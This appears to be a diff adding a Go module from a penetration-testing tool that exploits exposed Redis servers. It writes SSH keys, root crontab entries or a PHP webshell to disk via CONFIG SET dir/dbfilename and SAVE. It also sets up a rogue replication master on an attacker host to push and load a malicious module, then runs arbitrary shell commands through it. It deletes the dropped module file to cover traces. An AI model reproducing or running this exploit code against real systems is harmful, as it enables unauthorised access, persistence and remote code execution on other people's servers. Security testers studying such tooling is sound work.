@@ -0,0 +1,237 @@
+package redis
+
+import (
+	"errors"
+	"fmt"
+	"net"
+	"path"
+	"slack-wails/core/portscan"
+	"slack-wails/lib/structs"
+	"strings"
+	"time"
+)
+
+const (
+	ModeSSHKey   = "sshkey"
+	ModeCrontab  = "crontab"
+	ModeWebshell = "webshell"
+	ModeModule   = "module"
+)
+
+// 写文件时使用的临时键
+const payloadKey = "slack_payload"
+
+// 各模式默认写入的目录和文件名，crontab 在 Debian 系为 /var/spool/cron/crontabs
+var defaultTargets = map[string][2]string{
+	ModeSSHKey:   {"/root/.ssh", "authorized_keys"},
+	ModeCrontab:  {"/var/spool/cron", "root"},
+	ModeWebshell: {"/var/www/html", "shell.php"},
+	ModeModule:   {"", "exp.so"},
+}
+
+// Exploit 根据模式写入文件或通过主从复制加载模块，完成后恢复 dir 和 dbfilename 配置。
+// option.Confirm 为假时只返回将要执行的操作
+func Exploit(option structs.RedisExpOption) string {
+	target, ok := defaultTargets[option.Mode]
+	if !ok {
+		return "[-] 不支持的利用方式: " + option.Mode
+	}
+	if option.Dir == "" {
+		option.Dir = target[0]
+	}
+	if option.Filename == "" {
+		option.Filename = target[1]
+	}
+	if !option.Confirm {
+		return plan(option)
+	}
+	var log []string
+	var err error
+	if option.Mode == ModeModule {
+		log, err = loadModule(option)
+	} else {
+		log, err = writeFile(option.Host, option.Password, option.Dir, option.Filename, payload(option))
+	}
+	if err != nil {
+		log = append(log, "[-] "+err.Error())
+	}
+	return strings.Join(log, "\n")
+}
+
+func plan(option structs.RedisExpOption) string {
+	if option.Mode == ModeModule {
+		return fmt.Sprintf("[*] 将执行以下操作，确认后重新提交:\n"+
+			"1. 在 %s:%d 启动伪造的主节点，同步模块文件 %s\n"+
+			"2. SLAVEOF 到伪造的主节点并设置 dbfilename 为 %s，同步会清空目标当前的所有数据\n"+
+			"3. SLAVEOF NO ONE 后 MODULE LOAD ./%s，加载后删除模块文件\n"+
+			"4. 执行命令: %s\n"+
+			"5. 恢复 dbfilename，目标原本是从节点时重新 SLAVEOF 原主节点",
+			option.LHost, option.LPort, option.ModuleFile, option.Filename, option.Filename, option.Command)
+	}
+	return fmt.Sprintf("[*] 将执行以下操作，确认后重新提交:\n"+
+		"1. 备份 dir 和 dbfilename 配置\n"+
+		"2. SET %s 写入内容，CONFIG SET dir %s，CONFIG SET dbfilename %s，SAVE 覆盖该文件\n"+
+		"3. 恢复 dir 和 dbfilename 配置并删除 %s",
+		payloadKey, option.Dir, option.Filename, payloadKey)
+}
+
+// RDB 文件中包含其他数据，内容前后加上换行以便解析
+func payload(option structs.RedisExpOption) string {
+	content := option.Content
+	if option.Mode == ModeCrontab {
+		content = "* * * * * " + content
+	}
+	return "\n\n" + content + "\n\n"
+}
+
+// 备份配置，返回恢复配置的函数。replication 为真时同时记录主从配置，
+// 目标原本是从节点时恢复后重新连接原主节点
+func backupConfig(client *portscan.RedisClient, replication bool, log *[]string) (func(), error) {
+	dir, err := client.ConfigGet("dir")
+	if err != nil {
+		return nil, err
+	}
+	dbfilename, err := client.ConfigGet("dbfilename")
+	if err != nil {
+		return nil, err
+	}
+	*log = append(*log, fmt.Sprintf("[*] 原始配置 dir: %s, dbfilename: %s", dir, dbfilename))
+	var masterHost, masterPort string
+	if replication {
+		if masterHost, masterPort, err = masterAddr(client); err != nil {
+			return nil, err
+		}
+		if masterHost != "" {
+			*log = append(*log, "[*] 目标为从节点，原主节点: "+net.JoinHostPort(masterHost, masterPort))
+		}
+	}
+	return func() {
+		client.SetTimeout(10 * time.Second)
+		for _, args := range [][]string{{"CONFIG", "SET", "dir", dir}, {"CONFIG", "SET", "dbfilename", dbfilename}} {
+			if _, err := client.Do(args...); err != nil {
+				*log = append(*log, fmt.Sprintf("[-] 恢复 %s 失败: %v", args[2], err))
+			}
+		}
+		*log = append(*log, "[*] 已恢复 dir 和 dbfilename 配置")
+		// SLAVEOF NO ONE 会把从节点提升为主节点，需要在恢复 dbfilename 之后重新同步原主节点
+		if masterHost == "" {
+			return
+		}
+		if _, err := client.Do("SLAVEOF", masterHost, masterPort); err != nil {
+			*log = append(*log, "[-] 恢复主从复制失败: "+err.Error())
+		} else {
+			*log = append(*log, "[*] 已恢复主从复制: SLAVEOF "+net.JoinHostPort(masterHost, masterPort))
+		}
+	}, nil
+}
+
+// 从 INFO replication 中读取原主节点地址，目标为主节点时返回空
+func masterAddr(client *portscan.RedisClient) (host, port string, err error) {
+	info, err := client.Do("INFO", "replication")
+	if err != nil {
+		return "", "", err
+	}
+	fields := make(map[string]string)
+	for _, line := range strings.Split(info, "\n") {
+		if key, value, found := strings.Cut(strings.TrimSpace(line), ":"); found {
+			fields[key] = value
+		}
+	}
+	if fields["role"] != "slave" {
+		return "", "", nil
+	}
+	return fields["master_host"], fields["master_port"], nil
+}
+
+func writeFile(host, pass, dir, filename, content string) (log []string, err error) {
+	client, err := portscan.NewRedisClient(host, pass, 10*time.Second)
+	if err != nil {
+		return log, err
+	}
+	defer client.Close()
+	restore, err := backupConfig(client, false, &log)
+	if err != nil {
+		return log, err
+	}
+	// SAVE 可能耗尽连接的超时时间，删除临时键需要在 restore 重新设置超时之后执行
+	defer func() {
+		restore()
+		if _, err := client.Do("DEL", payloadKey); err != nil {
+			log = append(log, "[-] 删除 "+payloadKey+" 失败: "+err.Error())
+		}
+	}()
+	for _, args := range [][]string{
+		{"SET", payloadKey, content},
+		{"CONFIG", "SET", "dir", dir},
+		{"CONFIG", "SET", "dbfilename", filename},
+		{"SAVE"},
+	} {
+		if _, err = client.Do(args...); err != nil {
+			return log, fmt.Errorf("%s 执行失败: %v", strings.Join(args[:min(len(args), 3)], " "), err)
+		}
+	}
+	log = append(log, "[+] 写入成功: "+path.Join(dir, filename))
+	return log, nil
+}
+
+// 通过主从复制将模块文件同步到目标的 dbfilename 后加载
+func loadModule(option structs.RedisExpOption) (log []string, err error) {
+	if option.LHost == "" || option.LPort == 0 || option.ModuleFile == "" {
+		return log, errors.New("module 模式需要设置 LHost、LPort 和 ModuleFile")
+	}
+	master, err := listenRogueMaster(option.LPort, option.ModuleFile)
+	if err != nil {
+		return log, err
+	}
+	defer master.Close()
+	client, err := portscan.NewRedisClient(option.Host, option.Password, 10*time.Second)
+	if err != nil {
+		return log, err
+	}
+	defer client.Close()
+	restore, err := backupConfig(client, true, &log)
+	if err != nil {
+		return log, err
+	}
+	defer restore()
+	dir, err := client.ConfigGet("dir")
+	if err != nil {
+		return log, err
+	}
+	moduleFile := path.Join(dir, option.Filename)
+	if _, err = client.Do("CONFIG", "SET", "dbfilename", option.Filename); err != nil {
+		return log, err
+	}
+	if _, err = client.Do("SLAVEOF", option.LHost, fmt.Sprint(option.LPort)); err != nil {
+		return log, err
+	}
+	log = append(log, fmt.Sprintf("[*] SLAVEOF %s:%d", option.LHost, option.LPort))
+	synced := master.Wait(30 * time.Second)
+	// 加载同步的数据需要时间，等待后再停止复制
+	time.Sleep(2 * time.Second)
+	client.SetTimeout(10 * time.Second)
+	if _, err := client.Do("SLAVEOF", "NO", "ONE"); err != nil {
+		log = append(log, "[-] SLAVEOF NO ONE 执行失败: "+err.Error())
+	}
+	if !synced {
+		return log, errors.New("目标没有连接伪造的主节点，检查 LHost 和 LPort 是否可以访问")
+	}
+	if _, err = client.Do("MODULE", "LOAD", "./"+option.Filename); err != nil {
+		return log, fmt.Errorf("MODULE LOAD 执行失败: %v，模块文件残留在 %s", err, moduleFile)
+	}
+	log = append(log, "[+] 模块加载成功")
+	// 模块加载后已经在内存中，通过模块提供的命令删除落地的文件
+	if _, err := client.Do("system.exec", "rm -f "+moduleFile); err != nil {
+		log = append(log, fmt.Sprintf("[-] 删除模块文件 %s 失败: %v", moduleFile, err))
+	} else {
+		log = append(log, "[*] 已删除模块文件 "+moduleFile)
+	}
+	if option.Command != "" {
+		output, err := client.Do("system.exec", option.Command)
+		if err != nil {
+			return log, err
+		}
+		log = append(log, output)
+	}
+	return log, nil
+}